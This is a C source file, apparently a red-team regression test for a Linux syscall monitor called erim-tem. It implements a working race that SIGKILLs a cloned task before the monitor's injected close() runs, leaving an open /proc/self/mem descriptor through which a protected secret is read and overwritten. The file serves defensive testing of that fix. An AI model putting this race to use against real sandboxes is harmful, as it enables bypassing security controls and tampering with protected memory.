/* SPDX-License-Identifier: MIT */
/* atk_owner_death.c: the caller of a refused open dies before erim-tem's
 * correction (the injected close) runs, and the fd stays in a table that
 * surviving tasks share (red team 17, rt_owner_death).
 *
 * erim-tem judges an open by the fd it produced, at the exit stop, and
 * refuses by injecting close() into the caller; meanwhile every task of the
 * caller's group (sharing its mm, fd table or handlers) is held.  The
 * caller can be SIGKILLed by a process outside the group while the fd
 * exists and before the close ran; the group used to be released then,
 * with the fd in it.  Now a task that dies (or cannot be made to run the
 * close) with its exit check pending takes every task sharing its fd table
 * with it, before any is released (tem_main.c lost_correction).
 *
 * The attack (in the fork child C that carries the registered secret): C
 * clones K with CLONE_VM | CLONE_FILES and no CLONE_THREAD (another
 * process: same mm and fd table, so C is held while K's call is judged,
 * and a SIGKILL of K does not kill C).  K opens /proc/self/mem -- its own
 * address space, which is C's: no ptrace permission over another process
 * is involved -- refused at its exit stop.  F, a fork child of C (shares
 * nothing: not held), spins on readlink(/proc/K/fd/N) and SIGKILLs K as
 * soon as the fd exists.  C then looks for fd N and reads and writes the
 * secret through it.  Under erim-tem C is stopped with K (SIGKILL): that
 * is the refusal; an attempt in which F was too late changes nothing, and
 * a run in which F was never in time shows nothing and says so (not
 * applicable: the race was not won).
 *
 * Built twice: atk_owner_death, and with -DATK_NOKILL atk_owner_nokill
 * (F watches but never kills: every fd is closed before C runs again; red
 * team 17's control).  Without erim-tem both succeed: K's open works. */
#include <fcntl.h>
#include <sched.h>
#include <sys/prctl.h>

#include "atk_common.h"

#define ATTEMPTS 200
#define MAX_ATTEMPTS 3000   /* more while F has not yet seen the fd exist (a fast close leaves a short window) */

struct shared { volatile int ktid, stop, seen; };

static struct shared *sh;

static int k_main(void *arg)
{
	(void)arg;
	sh->ktid = (int)syscall(SYS_gettid);
	if ((int)syscall(SYS_openat, AT_FDCWD, "/proc/self/mem", O_RDWR, 0) >= 0)
		syscall(SYS_exit_group, 0);   /* not refused (no erim-tem): leave it for C */
	syscall(SYS_exit_group, 1);
	return 1;
}

static enum atk_result atk_attack(void)
{
	struct shared *s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	const char evil[8] = "EVILEVIL";
	char link[64], tgt[128];
	uint8_t buf[16];
	int n, a, st = 0;
	pid_t c, f, k;

	static uint8_t kstack[65536] __attribute__((aligned(16)));

	if (s == MAP_FAILED)
		return ATK_ERROR;
	sh = s;
	n = dup(2);          /* the number K's open will get */
	close(n);
	fflush(stdout);
	c = getpid();
	f = fork();
	if (f == 0) {        /* the killer: another process, not in K's group */
		int kt = 0;

		/* C may be stopped by erim-tem (the refusal): F must not outlive it */
		if (prctl(PR_SET_PDEATHSIG, SIGKILL) != 0 || getppid() != c)
			_exit(0);

		while (!s->stop) {
			if (!(kt = s->ktid))
				continue;
			snprintf(link, sizeof link, "/proc/%d/fd/%d", kt, n);
			if (readlink(link, tgt, sizeof tgt - 1) > 0) {
#ifndef ATK_NOKILL
				kill(kt, SIGKILL);
#endif
				s->seen++;
				s->ktid = 0;
			}
		}
		_exit(0);
	}
	if (f < 0)
		return ATK_ERROR;
	for (a = 1; (a <= ATTEMPTS || (!s->seen && a <= MAX_ATTEMPTS)) && !(st & 1); a++) {
		s->ktid = 0;
		k = clone(k_main, kstack + sizeof kstack - 64, CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
		if (k < 0)
			break;
		waitpid(k, NULL, 0);
		s->ktid = 0;
		if (pread(n, buf, sizeof buf, (off_t)(uintptr_t)(atk_secret + 64)) == (ssize_t)sizeof buf) {
			size_t i;
			int all = 1;

			for (i = 0; i < sizeof buf; i++)
				all &= buf[i] == ATK_SECRET_BYTE;
			if (all)
				st |= 2;
			if (pwrite(n, evil, sizeof evil, (off_t)(uintptr_t)atk_secret) == (ssize_t)sizeof evil)
				st |= 1;
			atk_say("attempt %d: fd %d open on the memory file of this address space (pid %d; F saw the fd "
			        "%d time(s)): %s%s", a, n, (int)getpid(), s->seen, st & 2 ? "read the secret" : "read other bytes",
			        st & 1 ? ", wrote EVILEVIL over it" : "");
			close(n);
		}
	}
	s->stop = 1;
	waitpid(f, NULL, 0);
	if (st)
		return ATK_SUCCEEDED;
	atk_say("the fd was never left open (%d attempts; F saw it %d time(s))", a - 1, s->seen);
	if (!s->seen) {
		/* F never saw the fd exist: nothing was shown either way */
		atk_say("F never saw K's fd: the race was not run");
		return ATK_NA;
	}
#ifndef ATK_NOKILL
	/* under the fix C dies with K whenever F kills K in the window, so
	 * surviving every attempt means F was always too late */
	atk_say("F killed K %d time(s), always after erim-tem's close: the race was not won", s->seen);
	return ATK_NA;
#else
	return ATK_REFUSED;
#endif
}

#ifdef ATK_NOKILL
static const char *atk_name = "atk_owner_nokill";
#else
static const char *atk_name = "atk_owner_death";
#endif
static int atk_needs_pku = 0;
